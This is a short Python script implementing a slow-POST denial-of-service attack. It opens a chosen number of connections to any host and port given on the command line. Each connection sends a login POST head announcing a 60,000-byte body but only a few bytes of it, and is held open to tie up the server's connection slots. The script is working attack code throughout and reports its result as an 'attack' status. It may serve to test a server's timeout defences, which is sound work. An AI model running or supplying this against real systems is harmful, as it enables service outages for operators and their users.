# Opens N connections that each send a request head announcing a
# 60,000-byte body and a few bytes of it, then holds them for HOLD seconds.
import socket, sys, time
host, port, n, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
head = (b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n\r\n{\"username\":")
held = []
errors = {}
for i in range(n):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(head)
        held.append(s)
    except OSError as e:
        errors[type(e).__name__ + ": " + str(e)] = errors.get(type(e).__name__ + ": " + str(e), 0) + 1
print(f"attack: {len(held)} connections open, errors {errors}", flush=True)
time.sleep(hold)
